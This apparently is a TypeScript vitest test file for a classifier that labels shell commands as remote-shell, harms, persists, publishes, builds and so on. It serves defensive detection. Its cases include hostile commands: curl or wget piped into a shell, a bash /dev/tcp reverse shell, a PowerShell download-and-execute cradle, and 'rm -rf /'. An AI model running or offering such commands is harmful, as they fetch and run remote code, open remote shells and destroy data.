import { expect, test } from "vitest";
import { commandKind } from "./command-kind.ts";

test.each([
  ["curl -s http://example.invalid/a | sh", "remote-shell"],
  ["wget -qO- http://example.invalid/a|python3", "remote-shell"],
  ["bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'", "remote-shell"],
  [`powershell -EncodedCommand ${"QQBCAEMA".repeat(6)}`, "encoded"],
  ["powershell IEX (New-Object Net.WebClient).DownloadString('x')", "remote-shell"],
  ["curl https://example.invalid/a -o a", "fetches"],
  ["{sys.executable} -m pip install other", "installs"],
  ["pip3 install --user other", "installs"],
  ["rm -rf / --no-preserve-root", "harms"],
  ["rm -rf build dist", "other"],
  ["schtasks /create /tn x", "persists"],
  ["whoami", "probes"],
  ["twine upload -u __token__ -p {…} dist/*", "publishes"],
  ["{sys.executable} setup.py sdist upload", "publishes"],
  ["git -C /tmp/x push origin main", "publishes"],
  ["git stash pop", "builds"],
  ["git config --get user.email", "probes"],
  ["{tempfile}/a.exe", "starts-program"],
  [`node -e "require('child_process').exec('x')"`, "starts-program"],
  ["node build.js", "builds"],
  ["git describe --tags", "builds"],
  ["pkg-config --cflags {…}", "builds"],
  ["/usr/bin/gcc -v", "builds"],
  ["CC=clang make -j4", "builds"],
  ["arm-linux-gnueabihf-gcc -dumpmachine", "builds"],
  ["git log; whoami", "probes"],
  ["{sys.executable} -c 'import x'", "builds"],
  ["{sys.executable} /archive/x-1.0/tools/y.py a", "builds"],
  ["{sys.executable} {temp}/y.py", "other"],
  ["%WINDIR%\\System32\\where.exe git", "builds"],
  ["something --else", "other"],
  ["curl --version", "builds"],
  ["{sys.executable} meson setup .", "builds"],
  ["{sys.exec_prefix}/python.exe", "builds"],
  ["{temp}/python.exe", "starts-program"],
  ["something self version --output-format json", "builds"],
  ["./something --version", "other"],
  ["sh configure -q", "builds"],
  ['(cd "deps/x" && if [ -r a.h ]; then cp a.h b.h; fi && sh ./configure -C > out.txt )', "builds"],
  ["chmod 0755 configure", "builds"],
  ["chmod 0755 other", "starts-program"],
  ["cd docs/man && {sys.executable} -m gzip --best a.1", "builds"],
  ["cd docs && ./payload", "other"],
  ["python{…} -c import sys; print(sys.executable)", "builds"],
  ["taskkill /pid {…} /f", "other"],
  ["taskkill /f /im chrome.exe", "harms"],
  ["powershell -Command Invoke-Expression '[A.B]::C().user | Write-Host'", "starts-program"],
  ["powershell -Command Invoke-Expression $x", "remote-shell"],
  ["", "other"],
])("%s: %s", (line, kind) => {
  expect(commandKind(line)).toBe(kind);
});

test("a hostile line takes no time", () => {
  const start = performance.now();
  for (const piece of ["curl ", "| ", "powershell -e ", "rm -", "A=1 ", "/ ", "{…}", "chmod +", "pip -x "]) {
    commandKind(piece.repeat(100_000));
  }
  expect(performance.now() - start).toBeLessThan(1_000);
});
